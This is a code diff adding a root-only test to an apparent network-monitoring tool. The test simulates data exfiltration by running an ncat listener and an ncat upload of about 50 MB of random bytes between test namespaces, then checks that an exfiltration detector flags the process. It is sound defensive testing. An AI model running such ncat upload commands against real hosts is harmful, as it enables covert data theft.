@@ -22,9 +22,10 @@ import pytest
 from garrison import analytics
 from garrison.bus import EventBus
 from garrison.config import GarrisonConfig
+from garrison.detect.exfil import ExfilDetector
 from garrison.engine import Garrison
 from garrison.events import DNS_TUNNEL, EXFIL, Event
-from garrison.sensors.connections import Connection, SocketTable
+from garrison.sensors.connections import Connection, FlowBytes, SocketTable
 from garrison.sensors.pcap import read_packets
 from tests.support.netns import (
     DEFENDED_V4,
@@ -197,3 +198,54 @@ def test_live_iodine_tunnel_is_caught(topo: Topology, tmp_path: Path) -> None:
     assert len(events) == 1, f"{len(events)} dns-tunnel events from {packets} packets"
     d = events[0].detail
     assert d["domain"] == "t.tun.test" and d["client"] == OUTSIDE_V4 and d["ip"] == OUTSIDE_V4
+
+
+@pytest.mark.root
+def test_upload_seen_by_kernel_counters_alone(topo: Topology) -> None:
+    """No packet capture at all: the socket tables name the process, the kernel's per-socket
+    counters (read inside the defended namespace) give the bytes."""
+    port = 4444
+    sink = topo.popen(topo.outside, ["ncat", "-l", "-k", str(port), "--recv-only"],
+                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    table = SocketTable()
+    observations: list[Any] = []
+    try:
+        wait_for("the listener", lambda: any(
+            e.local_port == port and e.state == 10 for _ns, e in table.sockets()))
+        table.poll(time.time())
+        table.byte_counts(time.time())  # the baseline
+        sender = topo.popen(topo.defended, ["ncat", OUTSIDE_V4, str(port), "--send-only"],
+                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL)
+
+        def sender_socket() -> list[Connection]:
+            observations.extend(table.poll(time.time()))
+            return [c for c in observations
+                    if isinstance(c, Connection) and c.pid == sender.pid]
+
+        conn = wait_for("ncat's socket", sender_socket)[0]
+        assert sender.stdin is not None
+        block = os.urandom(CHUNK)
+        for _ in range(UPLOAD // CHUNK):
+            sender.stdin.write(block)
+        sender.stdin.flush()
+
+        def counted() -> bool:
+            observations.extend(table.byte_counts(time.time()))
+            return sum(b.bytes_out for b in observations if isinstance(b, FlowBytes)
+                       and b.local_port == conn.local_port) >= UPLOAD
+
+        wait_for("the kernel counting 50 MB", counted, timeout=60)
+        sender.stdin.close()
+        assert sender.wait(timeout=60) == 0
+    finally:
+        sink.kill()
+        sink.wait(timeout=10)
+        table.close()
+    det = ExfilDetector([f"{DEFENDED_V4}/32"])
+    events = [e for o in sorted(observations, key=lambda o: o.ts) for e in det.observe(o)]
+    events += det.flush(time.time() + 60)
+    big = [e for e in events if e.detail["type"] == "large-upload"]
+    assert big and big[0].detail["pid"] == sender.pid
+    assert "ncat" in big[0].detail["command_line"]
+    assert big[0].destination_ip == OUTSIDE_V4 and big[0].destination_port == port
